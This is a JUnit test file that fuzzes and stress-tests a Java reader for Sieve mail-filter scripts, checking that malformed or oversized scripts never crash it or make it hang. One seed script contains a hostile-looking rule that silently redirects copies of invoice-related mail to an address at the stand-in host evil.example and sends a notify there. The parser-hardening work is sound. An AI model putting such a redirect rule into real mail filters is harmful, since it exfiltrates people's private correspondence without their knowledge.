package org.mimawari.sieve;

import static java.time.Duration.ofSeconds;
import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import java.util.List;
import java.util.Optional;
import java.util.Random;
import java.util.stream.IntStream;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Scripts made to break a reader: it never throws, never takes long. */
@Tag("heavy")
class HostileScriptsTest {

    private static final String RULE = "# rule:[r%d]\nif allof (header :contains \"subject\" \"word %d\") { fileinto \"F%d\"; }\n";
    private static final List<String> SEEDS = List.of("""
            require ["fileinto", "copy", "variables", "include", "vacation", "imap4flags", "body", "envelope"];
            # rule:[請求書]
            if anyof (header :contains ["subject", "from"] ["請求", "invoice"], not size :over 10K, exists "x") {
                set :lower "a" "${b}x${hex:40}"; redirect :copy "${a}@evil.example";
                fileinto :flags ["\\\\Seen"] "RSS"; stop;
            } elsif body :content "text" :matches "*wire*" { discard; } else { keep; }
            /* comment */ vacation :days 7 :subject "s" text:
            Away
            ..dot
            .
            ;
            include :personal "other"; notify "mailto:a@evil.example?cc=b@evil.example";
            """, "if true { if false { redirect \"a\"; } } else { pipe :copy \"x\" [\"a\", \"b\"]; }");
    private static final String ALPHABET = "\"{}[]();:,#/*\\$.\n\r\0 a1K\u3042\uD83D";

    private static SieveReading read(String script) {
        return new SieveReader(name -> Optional.of(script)).read("main", script);
    }

    private static String mutated(String seed, Random random) {
        StringBuilder text = new StringBuilder(seed);
        for (int i = random.nextInt(12); i >= 0 && text.length() > 2; i--) {
            int at = random.nextInt(text.length());
            switch (random.nextInt(4)) {
                case 0 -> text.deleteCharAt(at);
                case 1 -> text.insert(at, ALPHABET.charAt(random.nextInt(ALPHABET.length())));
                case 2 -> text.insert(at, text.substring(at, Math.min(text.length(), at + random.nextInt(60))));
                default -> text.setCharAt(at, ALPHABET.charAt(random.nextInt(ALPHABET.length())));
            }
        }
        return text.toString();
    }

    @Test
    void mutatedScriptsNeverThrow() {
        Random random = new Random(20260114);
        assertTimeoutPreemptively(ofSeconds(60), () -> {
            for (int i = 0; i < 60_000; i++) {
                SieveReading reading = read(mutated(SEEDS.get(i % SEEDS.size()), random));
                assertThat(reading.broken()).isEqualTo(reading.broken() && !reading.problems().isEmpty());
            }
        });
    }

    @ParameterizedTest
    @ValueSource(strings = {"/*\n", "\\\"\n", "\"\n", "text:\n", "${", "redirect \"${hex:", "if true {", "if not ", "anyof (", "[",
            "\"a\",", "}", ";", "else { discard; }", "elsif header \"a\" \"b\" { discard; }", "include \"main\";",
            "set \"a\" \"${a}${a}\"; redirect \"${a}\";", "redirect \"${${${a}\";", "keep;", "stop;", "# rule:[x]\n",
            "if header \"a\" \"b\" { set \"v\" \"x\"; } ", "1", ":a", "redirect [\"a\",\"b\"];", "\"${a}${b}${c}\""})
    void anyPieceRepeatedIsReadInTime(String piece) {
        String script = "require \"variables\";" + piece.repeat((1 << 20) / piece.length());
        assertTimeoutPreemptively(ofSeconds(10), () -> read(script));
        assertTimeoutPreemptively(ofSeconds(10), () -> read(script.substring(0, script.length() / 2) + "\"} ;" + script.substring(0, 1000)));
    }

    @Test
    void aLongStringFullOfVariablesIsReadInTime() {
        for (String piece : new String[] {"${a}", "${", "${hex:", "${hex:41}", "${unicode:41 41 }", "${${hex:24}{"}) {
            String script = "require \"variables\"; redirect \"" + piece.repeat(200_000) + "\";";
            assertTimeoutPreemptively(ofSeconds(5), () -> read(script));
        }
    }

    @Test
    void twentyThousandRulesAreReadInLinearTime() {
        StringBuilder script = new StringBuilder("require [\"fileinto\"];\n");
        IntStream.range(0, 20_000).forEach(i -> script.append(RULE.formatted(i, i, i)));
        read(script.toString());
        assertTimeoutPreemptively(ofSeconds(10), () -> assertThat(read(script.toString()).rules()).hasSize(20_000));
    }

    @Test
    void anEndlessChainOfAlternativesIsBounded() {
        String script = "if header :contains \"subject\" \"a\" { discard; }\n"
                + "elsif header :contains \"subject\" \"b\" { discard; }\n".repeat(20_000);
        assertTimeoutPreemptively(ofSeconds(5), () -> assertThat(read(script).rules()).allSatisfy(
                rule -> assertThat(rule.conditions()).hasSizeLessThan(210)));
    }
}
